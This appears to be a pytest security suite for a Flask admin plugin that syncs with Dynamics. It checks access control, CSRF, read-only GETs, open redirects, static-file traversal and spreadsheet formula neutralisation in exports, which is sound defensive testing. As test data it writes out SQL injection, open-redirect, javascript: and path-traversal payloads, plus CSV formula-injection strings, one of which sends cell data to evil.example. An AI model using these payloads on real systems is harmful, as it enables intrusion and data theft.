"""Security of every URL the plugin registers, found in ``app.url_map``: a new endpoint is covered
without touching this file (or the test fails, asking for a sample value of its URL arguments).

* A viewer the host denies gets 403 (or the host's own answer, e.g. its login page) on each one.
* No GET, whatever its query string, changes any of the plugin's tables.
* No POST without a valid CSRF token is accepted, and none changes anything without an
  explicit confirmation.
* No ``url=`` return address sends the viewer off the site: every redirect and every link
  or form target built from one stays on the site, as Chromium's own URL parser reads it.
* The static blueprint serves the plugin's assets only.
* No exported CSV or XLSX cell can run as a spreadsheet formula, whatever the recorded text.
"""

from __future__ import annotations

import csv
import html
import io
import re
import typing as t
from urllib.parse import parse_qsl

import openpyxl
import pytest
import sqlalchemy as sa
from flask import Flask
from flask import url_for
from flask_admin import Admin
from flask_sqlalchemy import SQLAlchemy
from hypothesis import given
from hypothesis import strategies as st
from werkzeug.routing import Rule

from flask_dynamics_sync import DynamicsSync
from flask_dynamics_sync import export
from flask_dynamics_sync.extension import BLUEPRINT_NAME
from flask_dynamics_sync.models import QueueItem
from flask_dynamics_sync.models import SyncError
from flask_dynamics_sync.models import metadata

from .conftest import ERRORS_URL
from .conftest import SQLITE_ONLY
from .conftest import fuzz
from .test_example_host import make_host  # noqa: F401 - the example host's fixture

#: Sample values of URL arguments. A new argument fails the enumeration until it gets one here.
URL_ARGUMENTS = {"object_type": "Lead", "export_type": "csv", "filename": "status.css"}
#: Query arguments an endpoint needs to reach its real work (an existing error).
ENDPOINT_QUERIES = {"details_view": {"id": "700001"}, "edit_view": {"id": "700001"}}
#: Everything a state-changing request could carry, for every endpoint at once.
CHANGE_EVERYTHING = {
    "action": "resolve", "scope": "all", "confirmed": "1", "rowid": "700001", "id": "700001",
    "list_form_pk": "700001", "state": "resolved", "error_code": "0xEVIL", "record_label": "changed",
}
HOSTILE_QUERIES = [
    {},
    CHANGE_EVERYTHING,
    {**CHANGE_EVERYTHING, "action": "retry", "csrf_token": "forged"},
    {"url": "//evil.example/", "search": "%00'; DROP TABLE dynamics_sync_error; --", "flt0_0": "Lead"},
    {"page": "99999999999999999999", "page_size": "-1", "sort": "99", "desc": "2", "view": "last_hour"},
    {"name": "state", "query": "open", "export_type": "xlsx", "id": "-1"},
]
#: Return addresses that try to leave the site (each mentions "evil").
OPEN_REDIRECTS = [
    "http://evil.example/",
    "https://evil.example/admin/",
    "//evil.example/",
    "///evil.example/",
    "/\\evil.example/",
    "\\\\evil.example\\",
    "\\/evil.example",
    "http:evil.example",
    "http:/\\/evil.example",
    " //evil.example",
    "\t//evil.example",
    "/%09/evil.example",
    "https://localhost@evil.example/",
    "http://evil.example\\@localhost/",
    "javascript:alert('evil')",
    "JaVaScRiPt:alert('evil')",
    "java\nscript:alert('evil')",
    "data:text/html,<script>alert('evil')</script>",
]
SITE = "http://localhost/"


# -- the plugin's URLs ----------------------------------------------------------------------


def plugin_blueprints(app: Flask) -> set[str]:
    """The blueprints the plugin registered on ``app``: its views' and its static one."""
    return {view.blueprint.name for view in app.extensions["dynamics_sync"].views} | {BLUEPRINT_NAME}


def plugin_rules(app: Flask) -> list[Rule]:
    blueprints = plugin_blueprints(app)
    return sorted(
        (rule for rule in app.url_map.iter_rules() if rule.endpoint.split(".", 1)[0] in blueprints),
        key=lambda rule: rule.endpoint,
    )


def _probe_app() -> Flask:
    """An app built only to list the plugin's rules when the tests are collected."""
    app = Flask("probe")
    app.config.update(SQLALCHEMY_DATABASE_URI="sqlite://", SECRET_KEY="probe")
    DynamicsSync().init_app(app, admin=Admin(app), db=SQLAlchemy(app))
    return app


PROBE = _probe_app()
STATIC_ENDPOINT = f"{BLUEPRINT_NAME}.static"
#: (endpoint, method) of every plugin URL but the static files.
CASES = [
    (rule.endpoint, method)
    for rule in plugin_rules(PROBE)
    if rule.endpoint != STATIC_ENDPOINT
    for method in sorted(rule.methods - {"HEAD", "OPTIONS"})
]
GET_ENDPOINTS = sorted({endpoint for endpoint, method in CASES if method == "GET"})
POST_ENDPOINTS = sorted({endpoint for endpoint, method in CASES if method == "POST"})


def url(app: Flask, endpoint: str, **query: str) -> str:
    """The URL of ``endpoint`` with sample values for its arguments, plus ``query``."""
    [rule] = [r for r in app.url_map.iter_rules() if r.endpoint == endpoint]
    missing = sorted(rule.arguments - set(URL_ARGUMENTS))
    assert not missing, f"{endpoint} takes {missing}: add sample values to URL_ARGUMENTS"
    values = {name: URL_ARGUMENTS[name] for name in rule.arguments}
    with app.test_request_context():
        return url_for(endpoint, **values, **{**ENDPOINT_QUERIES.get(endpoint.split(".")[-1], {}), **query})


def request(client: t.Any, method: str, target: str, data: dict[str, str]) -> t.Any:
    """``data`` as the query string of a GET (after the target's own arguments), or as a POSTed form."""
    if method == "GET":
        path, _, query = target.partition("?")
        return client.get(path, query_string=[*parse_qsl(query), *data.items()])
    return client.open(target, method=method, data=data)


def snapshot(db: SQLAlchemy) -> dict[str, list[tuple[str, ...]]]:
    """Every row of every plugin table, as text."""
    with db.engine.connect() as conn:
        return {
            table.name: sorted(tuple(str(value) for value in row) for row in conn.execute(sa.select(table)))
            for table in metadata.sorted_tables
        }


def csrf_token(client: t.Any) -> str:
    page = client.get(ERRORS_URL).get_data(as_text=True)
    return re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)


def test_the_enumeration_finds_every_view_json_metrics_export_and_action_url():
    endpoints = {endpoint.split(".", 1)[1] for endpoint, _ in CASES if endpoint.startswith("dynamics_sync_")}

    assert {"index", "details", "json", "metrics", "index_view", "details_view", "export", "action_view"} <= endpoints
    assert all(endpoint.startswith("dynamics_sync") for endpoint, _ in CASES)


@SQLITE_ONLY
def test_a_second_admin_gets_its_own_rules_and_they_are_found(make_app, db_url):
    app = make_app(db_url)
    second = Admin(app, name="Second", url="/second", endpoint="second")
    app.extensions["dynamics_sync"].extension.add_views(second, app=app)

    found = {rule.rule for rule in plugin_rules(app)}

    assert {"/second/dynamics/status/", "/second/dynamics/errors/action/"} <= found


# -- access -----------------------------------------------------------------------------


@SQLITE_ONLY
@pytest.mark.parametrize(("endpoint", "method"), CASES)
def test_a_viewer_the_plugin_policy_denies_gets_403(make_app, db_url, endpoint, method):
    app = make_app(db_url, sync_kwargs={"can_view": lambda: False})

    response = request(app.test_client(), method, url(app, endpoint), CHANGE_EVERYTHING)

    assert response.status_code == 403


@SQLITE_ONLY
@pytest.mark.parametrize(("endpoint", "method"), [case for case in CASES if case[1] == "POST"])
def test_a_viewer_who_may_look_but_not_act_gets_403_on_every_post(make_app, db_url, endpoint, method):
    may_act = [True]
    app = make_app(db_url, sync_kwargs={"can_act": lambda: may_act[0]})
    client = app.test_client()
    data = {**CHANGE_EVERYTHING, "csrf_token": csrf_token(client)}  # a valid token, taken while allowed
    may_act[0] = False

    response = request(client, method, url(app, endpoint), data)

    # The stock ModelView endpoints are switched off for everyone (302 to the list, 404).
    assert response.status_code in (403, 302, 404)
    assert response.status_code == 403 or not endpoint.endswith(".action_view")


def test_the_hosts_login_page_answers_for_every_plugin_url_when_signed_out(make_host, empty_db_url):
    host = make_host(empty_db_url, EXAMPLE_HOST_DEMO_DATA=False)
    client = host.test_client()

    answers = {
        (endpoint, method): (response.status_code, response.headers.get("Location", "").split("?")[0])
        for endpoint, method in CASES
        for response in [request(client, method, url(host, endpoint), CHANGE_EVERYTHING)]
    }

    assert answers == {case: (302, "/login") for case in CASES}


@SQLITE_ONLY
def test_static_files_are_the_plugins_public_assets_only(make_app, db_url):
    client = make_app(db_url, sync_kwargs={"can_view": lambda: False}).test_client()
    static = "/static/dynamics_sync/"

    assert client.get(static + "status.css").status_code == 200  # like Flask-Admin's own assets
    for probe in ("../models.py", "..%2Fmodels.py", "%2e%2e/models.py", "../templates/dynamics_sync/status.html",
                  "/etc/passwd", "..\\models.py"):
        assert client.get(static + probe).status_code == 404, probe


# -- state changes ------------------------------------------------------------------------


@SQLITE_ONLY
@pytest.mark.parametrize("endpoint", GET_ENDPOINTS)
def test_no_get_changes_anything_whatever_its_query_string(client, db, errors_dataset, endpoint):
    app = client.application
    before = snapshot(db)

    statuses = {request(client, "GET", url(app, endpoint), query).status_code for query in HOSTILE_QUERIES}
    statuses |= {client.head(url(app, endpoint, **CHANGE_EVERYTHING)).status_code}

    assert snapshot(db) == before
    assert max(statuses) < 500


@SQLITE_ONLY
@pytest.mark.parametrize("endpoint", POST_ENDPOINTS)
@pytest.mark.parametrize("token", [None, "", "forged", "from another session"])
def test_a_post_without_a_valid_csrf_token_is_refused_and_changes_nothing(
    make_app, db_url, db, client, errors_dataset, endpoint, token
):
    if token == "from another session":
        token = csrf_token(make_app(db_url).test_client())
    data = dict(CHANGE_EVERYTHING) if token is None else {**CHANGE_EVERYTHING, "csrf_token": token}
    before = snapshot(db)

    response = request(client, "POST", url(client.application, endpoint), data)

    assert response.status_code in (302, 400, 403, 404)  # 302: a stock endpoint that is switched off
    assert snapshot(db) == before


@SQLITE_ONLY
@pytest.mark.parametrize("endpoint", POST_ENDPOINTS)
def test_no_post_changes_anything_without_an_explicit_confirmation(client, db, errors_dataset, endpoint):
    data = {key: value for key, value in CHANGE_EVERYTHING.items() if key != "confirmed"}
    data["csrf_token"] = csrf_token(client)
    before = snapshot(db)

    request(client, "POST", url(client.application, endpoint), data)

    assert snapshot(db) == before


# -- open redirects -------------------------------------------------------------------------

TARGETS = re.compile(r'(?:href|action|src|formaction)="([^"]*)"|name="url"[^>]*value="([^"]*)"', re.I)


def escaping_targets(response: t.Any) -> list[str]:
    """The redirect and every link, form or return address of the page that mentions the payload."""
    found = [response.headers.get("Location") or ""]
    if response.mimetype == "text/html":
        for href, value in TARGETS.findall(response.get_data(as_text=True)):
            found.append(html.unescape(href or value))
    return [target for target in found if "evil" in target.lower()]


@pytest.fixture(scope="module")
def url_parser(browser) -> t.Iterator[t.Callable[[list[str]], list[str]]]:
    """``parse(urls)``: where Chromium would go for each URL from a page at :data:`SITE`."""
    page = browser.new_page()
    try:
        yield lambda urls: page.evaluate(
            """([urls, base]) => urls.map(u => { const p = new URL(u, base); return p.protocol + "//" + p.host; })""",
            [urls, SITE + "admin/dynamics/errors/"],
        )
    finally:
        page.close()


@SQLITE_ONLY
@pytest.mark.parametrize("target", ["http:evil.example", "https:evil.example", "/\\evil.example", "0"])
def test_a_return_address_that_is_not_a_local_path_gives_the_list(client, errors_dataset, target):
    # werkzeug's redirect() would send "http:evil.example" out as "http:///evil.example".
    data = {"action": "ignore", "scope": "selected", "rowid": "700001", "confirmed": "1",
            "csrf_token": csrf_token(client), "url": target}

    after_action = client.post(ERRORS_URL + "action/", data=data)
    unknown_error = client.get(ERRORS_URL + "details/", query_string={"id": "1", "url": target})

    assert after_action.headers["Location"] == ERRORS_URL
    assert re.findall(r'class="btn btn-secondary btn-sm ds-back" href="([^"]*)"', unknown_error.get_data(as_text=True)) == [ERRORS_URL]


@SQLITE_ONLY
@pytest.mark.browser
@pytest.mark.parametrize(("endpoint", "method"), CASES)
def test_no_return_address_leads_off_the_site(client, errors_dataset, url_parser, endpoint, method):
    token = csrf_token(client)
    targets: list[str] = []
    for payload in OPEN_REDIRECTS:
        data = {**CHANGE_EVERYTHING, "csrf_token": token, "url": payload}
        targets += escaping_targets(request(client, method, url(client.application, endpoint), data))
        if method == "POST":  # the confirmation page (its Cancel link and carried return address)
            targets += escaping_targets(request(client, method, url(client.application, endpoint),
                                                {**data, "confirmed": ""}))

    destinations = dict(zip(targets, url_parser(targets)))

    assert {target: where for target, where in destinations.items() if where != SITE.rstrip("/")} == {}


# -- exported cells -------------------------------------------------------------------------

formula_text = st.builds(
    lambda start, rest: start + rest,
    st.sampled_from(["=", "+", "-", "@", "\t", "\r", " =", "\n=", "\xa0+", "\u3000-", '"=', "' @", ""]),
    st.sampled_from(['HYPERLINK("http://evil.example","x")', "cmd|' /C calc'!A0", "SUM(1+1)*cmd|' /C calc'!A0",
                     "1+1", "A1", "IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")"])
    | st.text(max_size=30),
)


@fuzz(25)
@given(label=formula_text, message=formula_text,
       code=formula_text.map(lambda value: "".join(ch for ch in value if ch.isprintable())[:32]),
       record_id=formula_text.map(lambda value: value.replace("\x00", "")[:128]))
def test_no_exported_cell_can_run_as_a_formula(client, sync, db, label, message, code, record_id):
    for model in (SyncError, QueueItem):
        db.session.execute(sa.delete(model))
    db.session.commit()
    sync.enqueue("Lead", record_id or "r", "insert", label=label)
    db.session.commit()
    [record] = sync.claim()
    sync.mark_failed(record, code.strip() or "0x1", message)

    text = client.get(ERRORS_URL + "export/csv/").get_data(as_text=True).lstrip("\ufeff")
    [header, row] = list(csv.reader(io.StringIO(text)))
    book = openpyxl.load_workbook(io.BytesIO(client.get(ERRORS_URL + "export/xlsx/").data))
    cells = [cell for cells in book.active.iter_rows(min_row=2) for cell in cells if cell.value is not None]

    # A cell that could run is shown as text: it starts with the apostrophe a spreadsheet drops.
    assert [value for value in row if export.needs_neutralizing(value) and not value.startswith("'")] == []
    assert [c.value for c in cells if c.data_type == "f" or (
        export.needs_neutralizing(str(c.value)) and not str(c.value).startswith("'"))] == []
